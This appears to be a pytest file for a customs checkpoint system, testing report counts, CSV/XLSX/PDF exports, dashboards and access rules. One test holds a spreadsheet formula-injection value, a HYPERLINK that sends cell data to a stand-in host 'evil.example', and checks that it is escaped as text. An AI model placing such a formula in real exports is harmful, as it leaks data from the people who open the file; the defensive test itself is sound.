"""The 389 report and the daily log: counts from the case taxonomy, files a supervisor can open."""
from __future__ import annotations

import csv
import io
import random
import shutil
import subprocess
from datetime import date, datetime, timedelta

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from checkpoint import cases, decisions, inspections, ledger, reports, values
from checkpoint.checks.risk import Risk
from checkpoint.errors import InvalidInput
from checkpoint.models import Finding
from checkpoint.reports import formats as report_formats
from checkpoint.reports import queries

TZ = "Asia/Ho_Chi_Minh"
SUBTYPES = list(cases.subtypes())


STEPS_TODAY = date(2027, 1, 1)
"""The day decisions are recorded on: after every seeded case and every step."""


def close(db, inspection: str, verdict: str, case: cases.Case | None, author: str = "x") -> None:
    """The verdict as its event: what the figures count is the log, whatever the verdict form asks besides (a
    leader's approval, a reason for no photo), which the inspections' own tests hold."""
    payload = {"verdict": verdict, "note": "", **({"case": case.as_dict()} if case else {})}
    ledger.record(db, "inspection.verdict", payload, author=author, subject=inspection)


def step(db, case_id: str, kind: str, day: date, **form: str) -> None:
    taken = decisions.parse(kind, {"number": f"{kind}/{day:%d%m}", "date": day.strftime("%d/%m/%Y"), **form}, None)
    decisions.record(db, case_id, taken, author="leader", today=STEPS_TODAY)


def decide(db, rng: random.Random, case_id: str, day: date) -> dict:
    """Takes a case through what may follow its record, by events: nothing yet, a sanction (sometimes replaced by
    a corrected one) with payments and the goods' fate, or a referral and perhaps a prosecution. Returns what was
    decided, counted here by hand for the independent count."""
    decided = {"decided": False, "fine": 0, "budget": 0, "prosecuted": False, "defendants": 0}
    path = rng.choice(["none", "sanctioned", "sanctioned", "referred"])
    if path == "none":
        return decided
    decided["decided"] = True
    later = day + timedelta(days=rng.randrange(0, 10))
    if path == "sanctioned":
        fine = rng.randrange(0, 10**8)
        step(db, case_id, "sanctioned", later, signer="Nguyễn Văn A", provision="NĐ 128/2020", fine_vnd=str(fine))
        if rng.random() < 0.3:  # a corrected decision: the newer paper stands
            later += timedelta(days=1)
            fine = rng.randrange(0, 10**8)
            step(db, case_id, "sanctioned", later, signer="Nguyễn Văn A", provision="NĐ 128/2020",
                 fine_vnd=str(fine))
        decided["fine"] = fine
        for _ in range(rng.randrange(0, 3)):
            paid = rng.randrange(1, 10**7)
            step(db, case_id, "paid", later + timedelta(days=rng.randrange(0, 5)), amount_vnd=str(paid))
            decided["budget"] += paid
    else:
        step(db, case_id, "referred", later, body="police_investigation")
        if rng.random() < 0.6:
            defendants = rng.randrange(1, 5)
            step(db, case_id, "prosecuted", later + timedelta(days=2), body="CQĐT Công an tỉnh",
                 defendants=str(defendants))
            decided |= {"prosecuted": True, "defendants": defendants}
    if (path == "sanctioned" or decided["prosecuted"]) and rng.random() < 0.5:
        proceeds = rng.choice([0, rng.randrange(1, 10**7)])
        step(db, case_id, "goods_fate", later + timedelta(days=3), fate="auctioned" if proceeds else "destroyed",
             proceeds_vnd=str(proceeds))
        decided["budget"] += proceeds
    return decided


def make_cases(db, seed: int, days: list[date], gates=("HUU_NGHI", "CHI_MA"), per_day: int = 3):
    """Random inspections with verdicts, their cases taken through decisions; returns what was recorded and decided,
    for an independent count. The fine, budget, prosecution and defendants typed with the verdict are random and
    must count for nothing."""
    rng = random.Random(seed)
    made = []
    for day in days:
        for _ in range(per_day):
            gate = rng.choice(gates)
            inspection = inspections.start(db, inspections.NewInspection(gate=gate, direction="import",
                                                                         plates=("12C-123.45",)),
                                           author=f"officer-{gate}", tz=TZ, on=day)
            if rng.random() < 0.3:
                close(db, inspection, "cleared", None)
                made.append({"id": inspection, "gate": gate, "day": day, "case": None})
                continue
            criminal = rng.random() < 0.2
            case = cases.parse({"subtype": rng.choice(SUBTYPES), "focus_group": "milk", "goods": "Sữa bột",
                                "goods_value_vnd": str(rng.randrange(0, 10**9)), "fine_vnd": str(rng.randrange(0, 10**8)),
                                "budget_vnd": str(rng.randrange(0, 10**8)), "criminal": "1" if criminal else "",
                                "defendants": str(rng.randrange(1, 4)) if criminal else ""})
            close(db, inspection, rng.choice(["seized", "referred"]), case)
            made.append({"id": inspection, "gate": gate, "day": day, "case": case, **decide(db, rng, inspection, day)})
    return made


def expected(made, gates, start: date, end: date) -> dict[int | None, reports.Figures]:
    """Per category, and none not yet classified: every inspection's case here is classified with its verdict."""
    result: dict[int | None, reports.Figures] = {None: reports.Figures()}
    for category in cases.CATEGORIES:
        chosen = [m for m in made if m["case"] and m["case"].category == category
                  and m["gate"] in gates and start <= m["day"] <= end]
        result[category] = reports.Figures(
            cases=len(chosen), fines_vnd=sum(m["fine"] for m in chosen),
            goods_value_vnd=sum(m["case"].goods_value_vnd for m in chosen),
            budget_vnd=sum(m["budget"] for m in chosen), criminal_cases=sum(m["prosecuted"] for m in chosen),
            defendants=sum(m["defendants"] for m in chosen), awaiting=sum(not m["decided"] for m in chosen))
    return result


@pytest.fixture
def history(db):
    days = [date(2025, 3, 1) + timedelta(days=i) for i in range(10)]
    days += [date(2026, 1, 5), date(2026, 2, 20)] + [date(2026, 3, 1) + timedelta(days=i) for i in range(10)]
    return make_cases(db, 7, days)


def test_summary_matches_an_independent_count(db, history):
    start, end = date(2026, 3, 2), date(2026, 3, 8)
    summary = reports.summary(db, ["HUU_NGHI"], start, end)
    assert summary.period == expected(history, {"HUU_NGHI"}, start, end)
    assert summary.year_to_date == expected(history, {"HUU_NGHI"}, date(2026, 1, 1), end)
    assert summary.last_year == expected(history, {"HUU_NGHI"}, date(2025, 3, 2), date(2025, 3, 8))
    everywhere = reports.summary(db, None, start, end)
    assert everywhere.period == expected(history, {"HUU_NGHI", "CHI_MA"}, start, end)


def test_change_against_last_year_is_a_percentage_or_nothing():
    figures = {c: reports.Figures() for c in cases.CATEGORIES}
    summary = reports.Summary({**figures, 1: reports.Figures(cases=6)}, figures,
                              {**figures, 1: reports.Figures(cases=4)})
    assert summary.change(1, "cases") == 50.0
    assert summary.change(2, "cases") is None


@pytest.mark.parametrize(("form", "message"), [
    ({"subtype": "teleportation"}, "violation: unknown violation type"),
    ({"subtype": "smuggling", "focus_group": "gold"}, "goods group: unknown goods group"),
    ({"subtype": "smuggling", "fine_vnd": "-5"}, "fine_vnd: must be a whole non-negative number"),
    ({"subtype": "smuggling", "fine_vnd": "12,5tr"}, "fine_vnd: must be a whole non-negative number"),
    ({"subtype": "smuggling", "fine_vnd": "5²"}, "fine_vnd: must be a whole non-negative number"),
    ({"subtype": "smuggling", "fine_vnd": "٣٠٠"}, "fine_vnd: must be a whole non-negative number"),
    ({"subtype": "smuggling", "fine_vnd": "1" + "0" * 16}, "fine_vnd: too large"),
    ({"subtype": "smuggling", "defendants": "2"}, "defendants: only for a case referred for prosecution"),
])
def test_case_forms_are_checked(form, message):
    with pytest.raises(InvalidInput) as caught:
        cases.parse(form)
    assert str(caught.value) == message


@given(st.text(max_size=30))
def test_any_typed_amount_is_a_number_or_a_clear_refusal(text):
    try:
        value = values.parse_whole(text, "fine_vnd", limit=cases.MAX_VND)
    except InvalidInput as refusal:
        assert refusal.params["field"] == "fine_vnd"
    else:
        assert value is None or 0 <= value <= cases.MAX_VND


def test_amounts_are_read_as_officers_type_them():
    case = cases.parse({"subtype": "origin_fraud", "fine_vnd": "12.500.000", "goods_value_vnd": "3 000 000"})
    assert (case.fine_vnd, case.goods_value_vnd, case.category) == (12_500_000, 3_000_000, 2)
    assert cases.parse({"subtype": ""}) is None


def test_a_seizure_needs_its_violation(db):
    inspection = inspections.start(db, inspections.NewInspection(gate="CHI_MA", direction="import", plates=("X",)),
                                   author="a", tz=TZ)
    with pytest.raises(InvalidInput):
        inspections.record_verdict(db, inspection, "seized", "", author="a")
    assert db.execute("SELECT verdict FROM inspections WHERE uuid = ?", [inspection]).fetchone()[0] is None


def test_csv_opens_in_excel_and_carries_every_section(db, history):
    report = reports.build(db, ["CHI_MA"], date(2026, 3, 1), date(2026, 3, 10), TZ)
    body = report_formats.to_csv(report)
    assert body.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
    titles = [r[0] for r in rows if r and r[0][:2] in ("A.", "B.", "C.", "D.")]
    assert titles == ["A. Lưu lượng / Throughput", "B. Vụ việc / Cases", "C. Tổng hợp theo nhóm / Totals per category",
                      "D. Nhật ký / Daily log"]
    log_start = next(i for i, r in enumerate(rows) if r and r[0] == "D. Nhật ký / Daily log") + 2
    log_end = rows.index([], log_start)
    assert log_end - log_start == len([m for m in history if m["gate"] == "CHI_MA"
                                       and date(2026, 3, 1) <= m["day"] <= date(2026, 3, 10)])
    assert [r[0] for r in rows[log_end + 1:] if r and r[0][:2] in ("E.", "F.")] == [
        "E. Theo cán bộ / Per officer", "F. Cảnh báo theo quy tắc / Findings per rule"]
    # The log's signed head when the report was made: a later rewrite of history shows against this paper.
    assert report.log_head == ledger.head_text(db) and report.log_head.startswith("#")
    assert rows[1][4:] == ["Đầu nhật ký / Log head", report.log_head]


def test_xlsx_has_a_sheet_per_section_with_formulas_and_formats(db, history, tmp_path):
    report = reports.build(db, None, date(2026, 3, 1), date(2026, 3, 10), TZ)
    path = tmp_path / "report.xlsx"
    path.write_bytes(report_formats.to_xlsx(report))
    wb = load_workbook(path)
    assert wb.sheetnames == ["A. Lưu lượng", "B. Vụ việc", "C. Tổng hợp", "D. Nhật ký", "E. Theo cán bộ",
                             "F. Cảnh báo theo quy tắc", "Vụ theo ngày"]
    summary = wb["C. Tổng hợp"]
    assert all(report.log_head in sheet.oddFooter.left.text for sheet in wb.worksheets)
    assert summary.freeze_panes == "A2"
    assert summary["B6"].value == "=SUM(B2:B5)" and summary["A5"].value == "Chưa phân loại / Not yet classified"
    assert summary["C2"].number_format == "#,##0"
    cases_sheet = wb["B. Vụ việc"]
    assert cases_sheet["B2"].number_format == "DD/MM/YYYY HH:MM"
    # The local time itself, to the millisecond, as the spreadsheet's date number.
    assert abs(cases_sheet["B2"].value - report.cases[0]["recorded"]) < timedelta(milliseconds=1)
    assert wb["Vụ theo ngày"]["A2"].value == datetime.fromisoformat(report.cases_per_day[0][0])
    assert [len(wb[name]._charts) for name in ("E. Theo cán bộ", "F. Cảnh báo theo quy tắc", "Vụ theo ngày")] == [1, 0, 1]
    officers = {row[0]: row[1] for row in wb["E. Theo cán bộ"].iter_rows(min_row=2, values_only=True)}
    assert officers == {f"officer-{gate}": sum(m["gate"] == gate and date(2026, 3, 1) <= m["day"] <= date(2026, 3, 10)
                                               for m in history) for gate in ("HUU_NGHI", "CHI_MA")}
    # A viewer that does not recalculate shows the values stored beside the formulas: they must be right too.
    stored = load_workbook(path, data_only=True)["C. Tổng hợp"]
    want = expected(history, {"HUU_NGHI", "CHI_MA"}, date(2026, 3, 1), date(2026, 3, 10))
    assert stored["B6"].value == sum(f.cases for f in want.values())
    assert stored["C6"].value == sum(f.fines_vnd for f in want.values())
    assert [stored.cell(row, len(queries.FIGURES) + 4).value for row in (2, 3, 4, 5)] == [
        report.summary.change(c, "cases") for c in queries.ROWS]


def test_findings_per_rule_are_counted_for_the_period_and_gates(db, tmp_path):
    day = date(2026, 3, 4)
    recorded = {"HUU_NGHI": ["WATCHLIST_MATCH", "HS_FOCUS_GOODS", "WATCHLIST_MATCH"], "CHI_MA": ["CHECK_DIGIT_INVALID"]}
    for gate, rules in recorded.items():
        for rule in rules:
            inspection = inspections.start(db, inspections.NewInspection(gate=gate, direction="import", plates=("X",)),
                                           author="a", tz=TZ, on=day)
            finding = Finding(rule, "warning", {"vi": "x", "en": "x"})
            inspections.record_checks(db, inspection, [finding], Risk("yellow", 1, ()), "demo", author="a")
    report = reports.build(db, ["HUU_NGHI"], day, day, TZ)
    assert report.findings_per_rule == [("WATCHLIST_MATCH", 2), ("HS_FOCUS_GOODS", 1)]
    path = tmp_path / "report.xlsx"
    path.write_bytes(report_formats.to_xlsx(report))
    sheet = load_workbook(path)["F. Cảnh báo theo quy tắc"]
    assert [list(r) for r in sheet.iter_rows(min_row=2, values_only=True)] == [["WATCHLIST_MATCH", 2], ["HS_FOCUS_GOODS", 1]]
    assert len(sheet._charts) == 1
    assert reports.build(db, None, day + timedelta(days=1), day + timedelta(days=1), TZ).findings_per_rule == []


def test_text_that_looks_like_a_formula_stays_text(db, tmp_path):
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"Sữa bột")'
    inspection = inspections.start(db, inspections.NewInspection(gate="CHI_MA", direction="import", plates=("X",),
                                                                 declared_goods=hostile),
                                   author="a", tz=TZ, on=date(2026, 3, 4))
    close(db, inspection, "cleared", None)
    report = reports.build(db, None, date(2026, 3, 4), date(2026, 3, 4), TZ)
    path = tmp_path / "report.xlsx"
    path.write_bytes(report_formats.to_xlsx(report))
    cell = load_workbook(path)["D. Nhật ký"]["H2"]
    assert (cell.value, cell.data_type) == (hostile, "s")
    rows = list(csv.reader(io.StringIO(report_formats.to_csv(report).decode("utf-8-sig"))))
    log_row = rows[rows.index(["D. Nhật ký / Daily log"]) + 2]
    assert log_row[7] == "'" + hostile


@pytest.mark.skipif(not shutil.which("soffice"), reason="LibreOffice is installed by scripts/test")
def test_libreoffice_computes_the_same_totals_as_an_independent_count(db, history, tmp_path):
    start, end = date(2026, 3, 1), date(2026, 3, 10)
    report = reports.build(db, None, start, end, TZ)
    (tmp_path / "report.xlsx").write_bytes(report_formats.to_xlsx(report))
    # The sheet's totals are formulas: only a spreadsheet program computes them. LibreOffice is told to
    # recalculate on load, so what is compared is its computation, not the values stored beside the formulas.
    (tmp_path / "lo" / "user").mkdir(parents=True)
    (tmp_path / "lo" / "user" / "registrymodifications.xcu").write_text(
        '<?xml version="1.0" encoding="UTF-8"?><oor:items xmlns:oor="http://openoffice.org/2001/registry">'
        '<item oor:path="/org.openoffice.Office.Calc/Formula/Load"><prop oor:name="OOXMLRecalcMode" oor:op="fuse">'
        '<value>0</value></prop></item></oor:items>', encoding="utf-8")
    subprocess.run(["soffice", "--headless", f"-env:UserInstallation=file://{tmp_path}/lo", "--convert-to",
                    'csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,3',
                    "--outdir", str(tmp_path), str(tmp_path / "report.xlsx")],
                   check=True, capture_output=True, timeout=120)
    exported = next(tmp_path.glob("report*.csv"))
    rows = list(csv.reader(exported.read_text(encoding="utf-8").splitlines()))
    total = dict(zip(rows[0], rows[5]))
    want = expected(history, {"HUU_NGHI", "CHI_MA"}, start, end)
    assert rows[1][0] == "1. Buôn bán, vận chuyển trái phép hàng cấm, hàng lậu" and rows[5][0] == "Tổng / Total"
    assert int(total["Số vụ / Cases"]) == sum(f.cases for f in want.values())
    assert int(total["Phạt VPHC (VNĐ) / Fines"].replace(",", "")) == sum(f.fines_vnd for f in want.values())


@pytest.mark.skipif(not shutil.which("pdftotext"), reason="poppler-utils is installed by scripts/test")
def test_pdf_has_the_unit_header_vietnamese_text_and_signature_block(db, history, tmp_path):
    report = reports.build(db, ["HUU_NGHI"], date(2026, 3, 1), date(2026, 3, 10), TZ)
    path = tmp_path / "report.pdf"
    path.write_bytes(report_formats.to_pdf(report, reports.unit_of(db, ["HUU_NGHI"]), "Nguyễn Văn Lâm"))
    text = subprocess.run(["pdftotext", "-layout", str(path), "-"], capture_output=True, text=True, check=True).stdout
    # A long category name wraps in its cell: read the category in the text without the layout.
    flowing = " ".join(subprocess.run(["pdftotext", str(path), "-"], capture_output=True, text=True,
                                      check=True).stdout.split())
    assert "Buôn bán, vận chuyển trái phép hàng cấm, hàng lậu" in flowing
    for expected_text in ("HẢI QUAN CỬA KHẨU QUỐC TẾ HỮU NGHỊ", "CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM",
                          "01/03/2026 – 10/03/2026",
                          "NGƯỜI LẬP BIỂU", "THỦ TRƯỞNG ĐƠN VỊ", "Nguyễn Văn Lâm", report.log_head):
        assert expected_text in text


def test_dashboard_shows_who_clears_despite_red(db):
    today = date(2026, 3, 4)
    for officer, verdict in (("lan", "cleared"), ("lan", "cleared"), ("minh", "held")):
        inspection = inspections.start(db, inspections.NewInspection(gate="HUU_NGHI", direction="import",
                                                                     plates=("X",)), author=officer, tz=TZ, on=today)
        db.execute("UPDATE inspections SET risk_channel = 'red' WHERE uuid = ?", [inspection])
        close(db, inspection, verdict, None, author=officer)
    board = reports.dashboard(db, ["HUU_NGHI"], today)
    per_officer = {row["key"]: row for row in board["today_officer"]}
    assert per_officer["lan"]["overridden"] == 2 and per_officer["minh"]["overridden"] == 0
    assert per_officer["lan"]["inspections"] == 2 and per_officer["lan"]["closed"] == 2
    assert board["week_gate"][0]["inspections"] == 3


def test_supervisors_export_only_their_gates_and_officers_not_at_all(client, auth, db, history):
    auth.login("super1")
    response = client.get("/reports/export.xlsx?from=01/03/2026&to=2026-03-10")
    assert response.status_code == 200
    assert response.headers["Content-Disposition"] == 'attachment; filename="checkpoint-2026-03-01-2026-03-10.xlsx"'
    wb = load_workbook(io.BytesIO(response.data))
    gates = {row[2] for row in wb["D. Nhật ký"].iter_rows(min_row=2, values_only=True)}
    assert gates == {"HUU_NGHI"}
    assert client.get("/reports/export.pdf?from=2026-03-01&gate=CHI_MA").status_code == 403
    assert client.get("/reports/export.csv?from=2026-03-10&to=2026-03-01").status_code == 422
    assert client.get("/reports/").status_code == 200
    auth.logout()
    auth.login("officer1")
    assert client.get("/reports/export.csv").status_code == 403


def test_patrol_interceptions_count_in_the_389_figures_and_cases(db):
    from checkpoint import patrols
    from tests.patrols.conftest import CARRIER, CIGARETTES, MILK

    today = date(2026, 3, 4)
    patrol_id = patrols.start(db, "HUU_NGHI", ["Nguyễn Văn Hùng"], author="patrol1", tz=TZ)
    new = patrols.parse_interception({"action": "seized", "violation": 1, "persons": [CARRIER],
                                      "goods": [MILK, CIGARETTES]}, today)
    interception = patrols.log_interception(db, patrol_id, new, author="patrol1", tz=TZ)
    day = date.fromisoformat(db.execute("SELECT local_date FROM interceptions WHERE uuid = ?",
                                        [interception]).fetchone()[0])
    figures = reports.figures(db, ["HUU_NGHI"], day, day)
    assert figures[1] == reports.Figures(cases=1, goods_value_vnd=14_400_000 + 7_500_000, awaiting=1)
    rows = reports.case_rows(db, ["HUU_NGHI"], day, day, TZ)
    assert [r["id"] for r in rows] == [interception]
    assert rows[0]["source"] == "interception" and rows[0]["focus_group"] == "infant_formula"
    assert reports.figures(db, ["CHI_MA"], day, day)[1].cases == 0
    # A seizure with no category is counted on its own line of the summary, never left out.
    unclassified = patrols.log_interception(db, patrol_id, patrols.parse_interception(
        {"action": "seized", "persons": [CARRIER], "goods": [MILK]}, today), author="patrol1", tz=TZ)
    assert reports.figures(db, ["HUU_NGHI"], day, day)[None] == reports.Figures(cases=1, goods_value_vnd=14_400_000,
                                                                                awaiting=1)
    # The daily log has the interception as a row of its own, its action standing as the verdict.
    cleared = inspections.start(db, inspections.NewInspection(gate="HUU_NGHI", direction="import", plates=("X",)),
                                author="a", tz=TZ, on=day)
    close(db, cleared, "cleared", None)
    report = reports.build(db, ["HUU_NGHI"], day, day, TZ)
    assert sorted((r["kind"], r["uuid"]) for r in report.daily_log) == sorted(
        [("interception", interception), ("interception", unclassified), ("inspection", cleared)])
    log = list(csv.reader(io.StringIO(report_formats.to_csv(report).decode("utf-8-sig"))))
    header = log.index(["D. Nhật ký / Daily log"]) + 1
    words = {r[1]: dict(zip(log[header], r)) for r in log[header + 1:header + 4]}
    assert words[interception]["Loại / Kind"] == "Chặn giữ trên tuyến tuần tra"
    assert words[interception]["Kết luận / Verdict"] == "Tạm giữ"
    assert words[interception]["Nhóm vi phạm / Category"] == "1"
    assert words[cleared]["Kết luận / Verdict"] == "cho qua" and words[cleared]["Chiều / Direction"] == "nhập khẩu"
    summary = log[log.index(["C. Tổng hợp theo nhóm / Totals per category"]) + 2:]
    lines = {row[0]: row for row in summary[:5]}
    assert lines["Chưa phân loại / Not yet classified"][1] == "1" and lines["Tổng / Total"][1] == "2"
    assert words[unclassified]["Nhóm vi phạm / Category"] == ""
